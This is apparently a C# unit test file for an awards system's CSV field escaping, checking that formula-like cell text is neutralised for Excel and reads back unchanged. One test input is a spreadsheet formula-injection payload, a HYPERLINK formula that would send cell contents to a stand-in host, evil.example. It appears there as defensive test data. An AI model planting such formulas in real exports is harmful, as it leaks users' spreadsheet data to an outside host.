using Awards.Core.Common;
using static Awards.Core.Tests.Scoring.Sheets.SheetFiles;

namespace Awards.Core.Tests.Common;

/// <summary>Typed text in a CSV the organizer opens in Excel is never run as a formula, and reads back as typed.</summary>
public class CsvFieldTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A2,\"查看\")", "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A2,\"\"查看\"\")\"")]
    [InlineData("+1", "'+1")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tcmd", "'\tcmd")]
    [InlineData("'=already quoted", "''=already quoted")]
    [InlineData("文笔流畅, 结构完整", "\"文笔流畅, 结构完整\"")]
    [InlineData("plain", "plain")]
    [InlineData("'just an apostrophe", "'just an apostrophe")]
    [InlineData("", "")]
    public void Text_GuardsFormulaLikeText_AndUnescapeGivesItBack(string typed, string written)
    {
        Assert.Equal(written, CsvField.Text(typed));

        var unquoted = written.StartsWith('"') ? written[1..^1].Replace("\"\"", "\"", StringComparison.Ordinal) : written;
        Assert.Equal(typed, CsvField.Unescape(unquoted));
    }

    [Fact]
    public void Quote_LeavesNumbersAlone_SoANegativeScoreStaysANumber()
    {
        Assert.Equal("-0.53", CsvField.Quote("-0.53"));
    }

    [Fact]
    public void TheScoreSheetReader_TakesTheGuardOffAComment()
    {
        var sheet = ReadCsv(Lines(CsvHeader, "7K3M-9Q2X,wang@example.com,85,90,78," + CsvField.Text("=1+1 好文章"), "A1B2-C3D4,wang@example.com,85,90,78,'not a formula"));

        Assert.True(sheet.IsValid);
        Assert.Equal("=1+1 好文章", sheet.Rows[0].Comment);
        Assert.Equal("'not a formula", sheet.Rows[1].Comment);
    }
}
